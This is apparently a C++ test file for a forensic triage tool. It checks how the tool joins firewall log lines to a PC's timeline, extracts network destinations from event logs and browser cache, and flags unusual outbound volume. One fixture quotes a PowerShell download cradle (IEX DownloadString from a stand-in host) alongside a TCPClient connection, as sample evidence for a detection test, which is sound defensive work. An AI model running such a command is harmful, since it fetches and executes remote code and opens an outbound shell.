// triage --netlog on the bundled sample: the PC's address comes from its own records, its
// lines of a customer's FortiGate log are joined (timeline, findings), another PC's are not.
#include <doctest/doctest.h>
#include <simdjson.h>

#include <algorithm>
#include <map>
#include <set>
#include <sstream>

#include "../test_util.hpp"
#include "triage/netlog_stage.hpp"
#include "triage/triage.hpp"

TEST_CASE("triage --netlog joins the PC's lines of a network log to its timeline and findings") {
  const std::string dir = kk_test::temp_dir() + "/case";
  kk::triage::Options o;
  o.bundle = KK_SOURCE_DIR "/samples/MSEDGEWIN10_20190925100000.zip";
  o.out_dir = dir;
  o.password = "infected";
  o.case_path = KK_SOURCE_DIR "/samples/CASE.json";
  o.jobs = 2;
  o.netlogs = {std::string(KK_TEST_DATA) + "/netlog/fortigate_sample_pc.log"};
  kk::Diagnostics diag("triage");
  diag.set_stderr_limit(0);
  kk::triage::Report r = kk::triage::run(o, diag);
  INFO(r.error);
  REQUIRE(r.status != "failed");
  CHECK(r.counts["netlog_files"] == 1);
  CHECK(r.counts["netlog_lines"] == 6);
  CHECK(r.counts["netlog_records"] == 5);  // the other PC's line is not joined

  simdjson::dom::parser p;
  const std::string inputs = kk_test::read_file(dir + "/netlog-inputs.jsonl");
  simdjson::dom::element in = p.parse(inputs).value();
  CHECK(std::string_view(in["product"].get_string().value()) == "fortigate");
  CHECK(std::string_view(in["pc_addresses_from"].get_string().value()) == "event logs");
  CHECK(std::string_view(in["pc_addresses"].at(0).get_string().value()) == "10.0.2.15");
  CHECK(std::string_view(in["first"].get_string().value()) == "2019-07-18T00:00:00.000000Z");

  // Timeline: network events from the log, in UTC (the log is JST).
  std::istringstream tl(kk_test::read_file(dir + "/timeline.jsonl"));
  std::string line;
  std::set<std::string> tags;
  std::size_t netlog_events = 0;
  while (std::getline(tl, line)) {
    if (line.find("\"artifact\":\"netlog\"") == std::string::npos) continue;
    ++netlog_events;
    simdjson::dom::element e = p.parse(line).value();
    simdjson::dom::array arr;
    REQUIRE(e["tags"].get_array().get(arr) == simdjson::SUCCESS);
    for (simdjson::dom::element t : arr) {
      std::string_view tag;
      if (t.get(tag) == simdjson::SUCCESS) tags.insert(std::string(tag));
    }
  }
  CHECK(netlog_events == 5);
  CHECK(tags.count("remote_access") == 1);
  CHECK(tags.count("av_detection") == 1);

  // Findings: the blocked connection out, the RDP from outside, the AV detection.
  const std::string findings = kk_test::read_file(dir + "/findings.jsonl");
  CHECK(findings.find("KK-NET-001") != std::string::npos);
  CHECK(findings.find("KK-NET-002") != std::string::npos);
  CHECK(findings.find("KK-NET-003") != std::string::npos);
  CHECK(findings.find("198.51.100.7") != std::string::npos);
  CHECK(findings.find("KK-NET-005") != std::string::npos);  // 151.101.0.133: Sysmon saw it too
}

TEST_CASE("destinations the PC's evidence names: PowerShell script blocks and Defender paths") {
  kk::triage::OwnAddresses own;
  simdjson::dom::parser p;
  auto see = [&](const std::string& json) { own.observe(p.parse(json).value()); };
  see(R"J({"artifact":"evtx","event_id":4104,"channel":"Microsoft-Windows-PowerShell/Operational",
"data":{"ScriptBlockText":"IEX (New-Object Net.WebClient).DownloadString('http://Cradle.example.com/a.ps1'); New-Object Net.Sockets.TCPClient('203.0.113.9',443)"}})J");
  see(R"J({"artifact":"evtx","event_id":1116,"channel":"Microsoft-Windows-Windows Defender/Operational",
"data":{"Path":"file:_C:\\x.exe;webfile:_C:\\x.exe|https://dl.example.net/x.exe|pid:1",
"FWLink":"https://go.microsoft.com/fwlink/?linkid=37020"}})J");
  // Another channel's 4104 (not PowerShell) names nothing.
  see(R"J({"artifact":"evtx","event_id":4104,"channel":"Other",
"data":{"ScriptBlockText":"http://not.example.org/"}})J");
  CHECK(own.destinations() ==
        std::vector<std::string>{"203.0.113.9", "cradle.example.com", "dl.example.net"});
}

TEST_CASE("destinations the PC's evidence names: the hosts of browser cache entries") {
  // The real WebCacheV01.dat records (a page of google.com, a .dat of c.urs.microsoft.com)
  // and the edited one (a setup.exe cached from example.com): tests/data/timeline/README.md.
  kk::triage::OwnAddresses own;
  simdjson::dom::parser p;
  std::istringstream lines(
      kk_test::read_file(std::string(KK_TEST_DATA) + "/timeline/browser_cache_records.jsonl"));
  for (std::string line; std::getline(lines, line);) own.observe(p.parse(line).value());
  CHECK(own.destinations() ==
        std::vector<std::string>{"c.urs.microsoft.com", "example.com", "google.com"});
}

TEST_CASE("unusual volume out: the network logs' hour beside SRUM's figure for it") {
  kk::triage::OwnAddresses own;
  simdjson::dom::parser p;
  auto see = [&](const std::string& json) { own.observe(p.parse(json).value()); };
  see(R"J({"artifact":"srum_network_usage","time":"2024-05-01T03:00:00.000000Z","app":"evil.exe","bytes_sent":300000000})J");
  see(R"J({"artifact":"srum_network_usage","time":"2024-05-01T03:00:00.000000Z","app":"msedge.exe","bytes_sent":9000000})J");
  see(R"J({"artifact":"srum_network_usage","time":"2024-05-01T05:00:00.000000Z","app":"msedge.exe","bytes_sent":0})J");
  REQUIRE(own.srum_hours().size() == 1);
  const std::int64_t h = 3600LL * 1000000,
                     base = *kk::parse_user_time("2024-05-01T00:00:00Z", "UTC");
  std::map<std::int64_t, kk::netlog::VolumeOut::Hour> hours;
  hours[base + 1 * h] = {2u << 20, 10, "netlog/fw.log", 1, 0};
  hours[base + 2 * h] = {1u << 20, 5, "netlog/fw.log", 11, 900};
  hours[base + 3 * h] = {300u << 20, 40, "netlog/fw.log", 16, 1500};
  hours[base + 4 * h] = {2u << 20, 8, "netlog/fw.log", 56, 6000};
  const std::string out = kk::triage::unusual_volume_records(hours, own.srum_hours());
  CHECK(std::count(out.begin(), out.end(), '\n') == 1);
  simdjson::dom::element e = p.parse(out).value();
  CHECK(std::string_view(e["time"].get_string().value()) == "2024-05-01T03:00:00.000000Z");
  CHECK(e["bytes_sent"].get_uint64().value() == (300u << 20));
  CHECK(e["median_hour_bytes"].get_uint64().value() == (2u << 20));
  CHECK(e["srum_bytes_sent"].get_uint64().value() == 309000000);
  CHECK(std::string_view(e["srum_top_app"].get_string().value()) == "evil.exe");
  CHECK(e["offset"].get_uint64().value() == 1500);
  // Two hours only: no median, 100 MiB decides alone; no SRUM: said so.
  hours.erase(base + 1 * h);
  hours.erase(base + 4 * h);
  const std::string two = kk::triage::unusual_volume_records(hours, {});
  CHECK(std::count(two.begin(), two.end(), '\n') == 1);
  CHECK(two.find("\"median_hour_bytes\":null") != std::string::npos);
  CHECK(two.find("\"srum_present\":false") != std::string::npos);
}
